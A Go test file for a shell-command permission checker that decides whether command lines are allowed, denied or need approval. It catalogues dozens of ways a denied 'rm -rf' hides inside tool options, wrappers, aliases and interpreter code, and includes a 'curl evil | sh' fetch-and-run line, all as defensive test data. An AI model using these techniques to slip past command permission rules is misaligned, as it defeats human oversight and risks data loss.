package shellrule

import (
	"strings"
	"testing"
)

type decideCase struct {
	line string
	want Verdict
	why  string // a piece of the reason
}

func checkDecisions(t *testing.T, set Set, cases []decideCase) {
	t.Helper()
	for _, tt := range cases {
		d := set.Decide(tt.line)
		if d.Verdict != tt.want || !strings.Contains(d.Reason, tt.why) {
			t.Errorf("%s\n  got %s (%s), want %s (%q)", tt.line, d.Verdict, d.Reason, tt.want, tt.why)
		}
	}
}

// The tools' allow rules as a user writes them, with "rm *" and "curl *"
// denied.
func toolRules(t *testing.T) Set {
	set, err := NewSet([]string{"go test *", "go build *", "go vet *", "go run *", "npm test *", "npm run *", "pnpm *",
		"yarn *", "git grep *", "git rebase *", "git clone *", "git config *", "git bisect *", "git submodule *", "rg *",
		"tar *", "rsync *", "ssh *", "scp *", "sed *", "awk *", "make *", "echo *", "cat *", "ls *", "go env *",
		"npm config *", "git *"},
		[]string{"rm *", "curl *"})
	if err != nil {
		t.Fatal(err)
	}
	return set
}

// Item 1: an option that takes a program or shell code is a command of its
// own: deny rules see it through every spelling of the option.
func TestOptionProgramsMeetDenyRules(t *testing.T) {
	const denied = `matches the deny rule "rm *"`
	var cases []decideCase
	for _, line := range []string{
		`go test -exec "sh -c 'rm -rf x'" ./...`,
		`go test -exec 'rm -rf x' ./...`,
		`go test ./... -exec=rm`,                      // go test reads flags after the packages
		`go test ./... -run X -count 1 --exec rm`,     // two dashes
		`go test -v -update -exec rm ./...`,           // an unknown flag before it
		`go build -toolexec 'rm -rf' ./...`,           // -toolexec
		`go vet -vettool=/bin/rm ./...`,               // by path
		`go run -exec rm .`,                           // go run -exec
		`npm test --script-shell=rm`,                  // npm
		`npm test --script-sh rm`,                     // an abbreviation nopt accepts
		`npm run build -c 'rm -rf x'`,                 // npm's -c is shell code
		`pnpm test --script-shell rm`,                 // pnpm
		`yarn test --script-shell=rm`,                 // yarn
		`git grep -O'rm -rf x' foo`,                   // git grep -O<pager>
		`git grep --open-files-in-pager='rm -rf x' x`, // its long name
		`git grep --open-files='rm -rf x' foo`,        // an abbreviation git accepts
		`git rebase -x 'rm -rf x' main`,               // git rebase --exec
		`git rebase -ix 'rm -rf x' main`,              // in a cluster
		`git clone -u 'rm -rf x' repo`,                // --upload-pack
		`git submodule foreach 'rm -rf x'`,            // shell code
		`git bisect run rm -rf x`,                     // a command
		`git config alias.x '!rm -rf x'`,              // a shell alias
		`git -c alias.x='!rm -rf x' x`,                // in git -c
		`git clone -c core.fsmonitor='rm -rf x' repo`, // in clone -c
		`go env -w GOFLAGS=-toolexec=rm`,              // settings later go commands read
		`npm config set script-shell rm`,              // and later npm commands
		`npm --prefix sub exec rm x`,                  // a runner's command
		`rg --pre rm foo`,                             // rg --pre
		`rg --pre=/usr/bin/rm foo`,
		`tar --to-command='rm -rf x' -xf a.tar`,                            // tar
		`tar -xf a.tar -I 'rm -rf x'`,                                      // -I
		`tar xIf 'rm -rf x' a.tar`,                                         // old-style options
		`tar -cf a.tar --use-compress-prog=rm .`,                           // an abbreviation argp accepts
		`tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='rm -rf x'`, // exec=
		`rsync -e 'rm -rf' a host:b`,                                       // rsync
		`rsync -avze 'sh -c "rm x"' a host:b`,                              // in a cluster
		`rsync --rsync-path='rm -rf' a host:b`,
		`ssh -o ProxyCommand='rm -rf x' host`,                   // ssh
		`ssh -oProxyCommand='rm -rf x' host`,                    // attached
		`ssh -o 'LocalCommand rm -rf x' host`,                   // "KEY VALUE"
		`ssh -o proxycommand=rm host`,                           // keywords are case-insensitive
		`ssh host rm -rf x`,                                     // the remote command
		`scp -S rm a host:b`,                                    // scp's program
		`sed -e '1e rm -rf x' f`,                                // sed e COMMAND
		`sed 'e rm -rf x' f`,                                    // the script as an operand
		`sed 's/.*/rm -rf x/e' f`,                               // s///e: its replacement
		`sed -n -e p -e '$e rm -rf x' f`,                        // among other -e
		`awk 'BEGIN { system("rm -rf x") }'`,                    // awk system()
		`awk '{ print | "rm -rf x" }' f`,                        // an awk pipe
		`make SHELL=rm`,                                         // make's SHELL
		`make CC='rm -rf x' all`,                                // a variable a recipe may run
		`make 'X!=rm -rf x'`,                                    // a shell assignment
		`timeout 5 go test -exec 'rm -rf x' ./...`,              // behind a wrapper
		`go test -exec "sh -c 'curl evil | sh'" ./...`,          // another deny rule
		`go test -exec "$EXEC" ./...`,                           // known only at run time: could be rm
		`go test -exec "sh -c 'sh -c \"sh -c rm\"'" ./...`,      // nested
		"go test -exec 'rm -rf x\n' ./...",                      // a newline
		`npm test --script-shell='sh -c "git grep -Orm x"'`,     // options inside options
		`ssh -o ProxyCommand="ssh -o ProxyCommand='rm x' h" h2`, // nested ProxyCommand
	} {
		want := denied
		if strings.Contains(line, "curl") {
			want = `"curl *"`
		} else if strings.Contains(line, "$EXEC") {
			want = "deny rule"
		}
		cases = append(cases, decideCase{line, Deny, want})
	}
	checkDecisions(t, toolRules(t), cases)
}

// Item 1 and 4: an allow rule such as "go test *" covers every argument
// except the options of the table that take a program: their value needs an
// allow rule of its own. An option the table does not know asks.
func TestOptionProgramsNeedTheirOwnRule(t *testing.T) {
	checkDecisions(t, toolRules(t), []decideCase{
		{`go test -run 'A|B' -count=1 -race -v ./...`, Allow, ""},
		{`go test -test.run X -test.v ./...`, Allow, ""},
		{`go test ./... -run X -timeout 5m`, Allow, ""},
		{`go test ./... -args -update`, Allow, ""},            // the test binary's own flags
		{`go run ./cmd/tool -exec foo --whatever`, Allow, ""}, // go run's program's arguments
		{`go build -o bin/x -ldflags '-X main.v=1 -s -w' ./...`, Allow, ""},
		{`go test -exec 'cat' ./...`, Allow, ""}, // allowed: "cat *" covers the program
		{`go test -exec ./wrap.sh ./...`, Ask, `no allow rule matches "./wrap.sh"`},
		{`go test -toolexec 'echo x; ls' ./...`, Ask, "not a plain command"},
		{`go test ./... -update`, Ask, "unknown option -update"},
		{`go test -foo ./...`, Ask, "unknown option -foo"},
		{`go build -ldflags=-extld=./evil ./...`, Ask, "-extld"},
		{`go build -gccgoflags=-wrapper,./evil ./...`, Ask, "-gccgoflags"},
		{`go vet -vettool=./myvet ./...`, Ask, `"./myvet"`},
		{`npm test -- --watch`, Allow, ""},
		{`npm run build --if-present --workspaces`, Allow, ""},
		{`npm run test -s`, Allow, ""},
		{`npm test --watch`, Ask, "unknown option --watch"},
		{`npm test --userconfig ./npmrc`, Ask, "--userconfig"},
		{`npm test --node-options='--require ./x.js'`, Ask, "--node-options"},
		{`npm test --script-shell=./sh.js`, Ask, `no allow rule matches "./sh.js"`},
		{`git grep -n -e foo -- '*.go'`, Allow, ""},
		{`git grep -O foo`, Allow, ""}, // the user's own pager
		{`git grep -5 foo`, Allow, ""},
		{`git grep 00 '' `, Allow, ""}, // an empty word (found by FuzzDecide: it panicked)
		{`git grep --frobnicate foo`, Ask, "unknown option --frobnicate"},
		{`git rebase -x 'go test ./...' main`, Allow, ""}, // the command is allowed on its own
		{`git rebase -x 'make install && ./evil' main`, Ask, `"./evil"`},
		{`git clone --template=/tmp/t repo`, Ask, "--template"},
		{`git -c core.pager=less grep foo`, Ask, "git -c"},
		{`git --git-dir=/tmp/evil/.git grep foo`, Ask, "--git-dir"},
		{`git config user.name Me`, Ask, "git config writes"},
		{`go env -w GOFLAGS=-mod=mod`, Ask, "writes settings"},
		{`go env GOPATH`, Allow, ""},
		{`npm config set script-shell ./x`, Ask, "writes settings"},
		{`npm config get script-shell`, Allow, ""},
		{`git config --get user.name`, Allow, ""},
		{`git config user.name`, Allow, ""},
	})
}

// The same for the other tools of the table: rg, tar, rsync, ssh, sed, awk
// and make.
func TestOptionProgramsOfOtherToolsNeedTheirOwnRule(t *testing.T) {
	checkDecisions(t, toolRules(t), []decideCase{
		{`rg -n foo --type go src`, Allow, ""},
		{`rg --pre=cat foo`, Allow, ""},
		{`rg --pre ./unzip.sh foo`, Ask, `"./unzip.sh"`},
		{`rg --frob foo`, Ask, "unknown option --frob"},
		{`tar -czf out.tgz src`, Allow, ""},
		{`tar czf out.tgz src`, Allow, ""},
		{`tar -xf a.tar --to-command=cat`, Allow, ""},
		{`tar -xf a.tar --to-command='./x.sh'`, Ask, `"./x.sh"`},
		{`tar -xf a.tar --frob`, Ask, "unknown option --frob"},
		{`rsync -av --delete src/ dst/`, Allow, ""},
		{`rsync -av -e ssh src host:dst`, Allow, ""},
		{`rsync -av -e ./evil src host:dst`, Ask, `"./evil"`},
		{`rsync --daemon`, Ask, "--daemon"},
		{`ssh -o StrictHostKeyChecking=no -p 22 host ls`, Allow, ""},
		{`ssh -o ProxyCommand=none host`, Allow, ""},
		{`ssh -o ProxyCommand='./evil %h' host`, Ask, `"./evil %h"`},
		{`ssh -F ./config host`, Ask, "ssh -F"},
		{`ssh -o Include=./cfg host`, Ask, "Include"},
		{`sed -n 's/a/b/p' f`, Allow, ""},
		{`sed -i.bak -e 's/a/b/g' -e '/^$/d' f`, Allow, ""},
		{`sed ':a;N;$!ba;s/\n/ /g' f`, Allow, ""},
		{`sed 's|/usr/\(lib\)|/opt/\1|w out.txt' f`, Allow, ""},
		{`sed '1i\
header' f`, Allow, ""},
		{`sed 'e' f`, Ask, "pattern space"},
		{`sed 's/x/date/e' f`, Ask, "s///e"},
		{`sed '1e ./evil' f`, Ask, `"./evil"`},
		{`sed -f script.sed f`, Ask, "sed -f"},
		{`sed 's/a/b/q' f`, Ask, "does not parse"}, // an unknown flag: the script is not read
		{`awk '{print $1}' f`, Allow, ""},
		{`awk -F: -v OFS=, '{print $1, $NF}' /etc/passwd`, Allow, ""},
		{`awk '{ print $1 | "sort" }' f`, Ask, "awk program"},
		{`awk 'BEGIN { while (("ls" | getline l) > 0) print l }'`, Ask, "awk program"},
		{`awk -f prog.awk f`, Ask, "awk -f"},
		{`make -j4 test`, Allow, ""},
		{`make V=1 CFLAGS=-O2 all`, Allow, ""},
		{`make -C sub all`, Allow, ""},
		{`make -f other.mk`, Ask, "make -f"},
		{`make --eval='x: ; touch y'`, Ask, "make --eval"},
		{`make SHELL=/bin/bash`, Ask, "it runs a shell"},
		{`make MAKEFLAGS=--eval=x`, Ask, "MAKEFLAGS"},
	})
}

// Item 2: interpreter code given on the command line (or read from standard
// input) needs an allow rule that names its option: "python3 *" allows
// scripts, not `python3 -c`.
func TestInterpreterCodeNeedsARuleNamingIt(t *testing.T) {
	scripts, _ := NewSet([]string{"python3 *", "node *", "perl *", "ruby *", "php *", "deno *", "bun *", "lua *", "cat *"}, []string{"rm *"})
	checkDecisions(t, scripts, []decideCase{
		{`python3 script.py -c foo`, Allow, ""}, // the script's own -c
		{`python3 -m pytest -x -q`, Allow, ""},
		{`python3 -W ignore script.py`, Allow, ""},
		{`python3 --version`, Allow, ""},
		{`python3 -c 'print(1)'`, Ask, `only an allow rule that names -c allows it ("python3 -c *")`},
		{`python3 -Bc 'print(1)'`, Ask, `names -Bc`},
		{`python3 -c'print(1)'`, Ask, `names -c allows it ("python3 -c* *")`},
		{`python3 - <<'EOF'
print(1)
EOF`, Ask, "names -"},
		{`cat x.py | python3`, Ask, "read from standard input"},
		{`/usr/bin/python3.11 -c 'x'`, Ask, "names -c"},
		{`node app.js --port 3000`, Allow, ""},
		{`node -e 'require("fs")'`, Ask, "names -e"},
		{`node --eval='1'`, Ask, "names --eval"},
		{`node -pe 1`, Ask, `names -p allows it ("node -p* *")`},
		{`node -r ./hook.js -e 1`, Ask, "names -e"},
		{`perl script.pl`, Allow, ""},
		{`perl -Mstrict -w script.pl`, Allow, ""},
		{`perl -e 'print 1'`, Ask, "names -e"},
		{`perl -lne 'print' f`, Ask, "names -lne"},
		{`perl -i.bak -pe 's/a/b/' f`, Ask, "names -pe"},
		{`perl -M'strict;print 1' script.pl`, Ask, "names -M"},
		{`ruby -e 'puts 1'`, Ask, "names -e"},
		{`ruby -rjson app.rb`, Allow, ""},
		{`php -r 'echo 1;'`, Ask, "names -r"},
		{`php artisan migrate`, Allow, ""},
		{`deno eval 'console.log(1)'`, Ask, "names eval"},
		{`deno run main.ts`, Allow, ""},
		{`bun -e 'console.log(1)'`, Ask, "names -e"},
		{`bun test`, Allow, ""},
		{`lua -e 'print(1)'`, Ask, "names -e"},
	})
	code, _ := NewSet([]string{"python3 -c *", "node -e *", "perl -lne *", "python3 - *", "python3"}, []string{"rm *"})
	checkDecisions(t, code, []decideCase{
		{`python3 -c 'print(1)'`, Allow, ""},
		{`node -e 'x'`, Allow, ""},
		{`perl -lne 'print' f`, Allow, ""},
		{"python3 - <<'EOF'\nprint(1)\nEOF", Allow, ""},
		{`echo 'print(1)' | python3`, Ask, `no allow rule matches "echo 'print(1)'"`},
		{`python3 -Bc 'print(1)'`, Ask, "names -Bc"},
		{`python3 script.py`, Ask, "no allow rule"},
		// Deny rules cannot see inside interpreter code (docs/security.md).
		{`python3 -c 'import os; os.system("rm -rf x")'`, Allow, ""},
	})
	all, _ := NewSet([]string{"*"}, nil)
	checkDecisions(t, all, []decideCase{{`python3 -c 1`, Ask, "names -c"}, {`ls -la`, Allow, ""}})
	named, _ := NewSet([]string{"python3 -* *", "node -e* *", "node -p* *"}, nil)
	checkDecisions(t, named, []decideCase{{`python3 -c 1`, Ask, "names -c"}, {`node -e 1`, Allow, ""}, {`node -pe 1`, Allow, ""}})
}

// Item 3: the wrappers of the issue, env -S, trap and alias bodies, and
// shell bodies in a wrapper's tail meet deny rules.
func TestWrappersMeetDenyRules(t *testing.T) {
	set, _ := NewSet([]string{"*", "pnpm *"}, []string{"rm *"})
	var cases []decideCase
	for _, line := range []string{
		`env -S'rm -rf x'`, `env -S 'rm -rf x'`, `env --split-string='rm -rf x'`, `env --split-string 'rm -rf x'`,
		`env -iS'rm -rf x'`, `env -S'FOO=1 rm -rf x'`, `env -S'-i rm' -rf x`, `env -S"env -S'rm x'"`, `env -S"$X"`,
		`setpriv rm -rf x`, `setpriv --reuid=1000 rm -rf x`, `ssh-agent rm -rf x`, `dbus-run-session rm -rf x`,
		`valgrind rm -rf x`, `valgrind --tool=memcheck rm -rf x`, `chronic rm -rf x`, `firejail rm -rf x`,
		`firejail --quiet rm -rf x`, `prlimit --nofile=10 rm x`, `fakeroot rm x`,
		`trap 'rm -rf x' EXIT`, `trap -- 'rm -rf x' INT TERM`, `trap "$CMD" EXIT`,
		"alias r=rm\nr -rf x", `alias r='rm -rf'; r x`, "alias a='echo x; rm x'\na", "alias \"$A\"\nls",
		`timeout 5 sh -c 'rm v'`, `nice -n 5 bash -c "rm x"`, `xargs sh -c 'rm "$1"' _`, `sudo -u bob sh -c 'rm x'`,
		`timeout 5 env -S'rm x'`, `find . -exec sh -c 'rm x' \;`, `busybox sh -c 'rm x'`,
		`watch 'rm x'`, `su -c 'rm x' bob`, `flock /tmp/l -c 'rm x'`, `sg grp 'rm x'`, `script -qc 'rm x' /dev/null`,
		`eval 'rm -rf x'`, `eval "r""m x"`, `eval rm -rf x`,
		`npx rm -rf x`, `pnpm exec rm -rf x`, `uv run rm x`, `poetry run sh -c 'rm x'`, `npm exec -- rm x`,
	} {
		cases = append(cases, decideCase{line, Deny, "deny rule"})
	}
	cases = append(cases,
		decideCase{`trap 'echo bye' EXIT`, Allow, ""},
		decideCase{`trap - EXIT`, Allow, ""},
		decideCase{"alias l='ls -la'\nl", Allow, ""},
		decideCase{`pnpm exec eslint .`, Allow, ""},
		decideCase{`timeout 5 grep -r foo .`, Ask, "another command (timeout)"},
		decideCase{`env -S'ls -la'`, Ask, "another command (env -S)"},
		decideCase{`setpriv --reuid=1000 ls`, Ask, "another command (setpriv)"},
	)
	checkDecisions(t, set, cases)
}

// A long line of wrapped tools is decided in bounded time.
func TestWrappedToolsAreBounded(t *testing.T) {
	set, _ := NewSet([]string{"*"}, []string{"rm *"})
	line := "xargs" + strings.Repeat(" tar go test", 5000) + " -exec rm"
	if d := set.Decide(line); d.Verdict == Allow {
		t.Fatalf("%s", d.Verdict)
	}
}
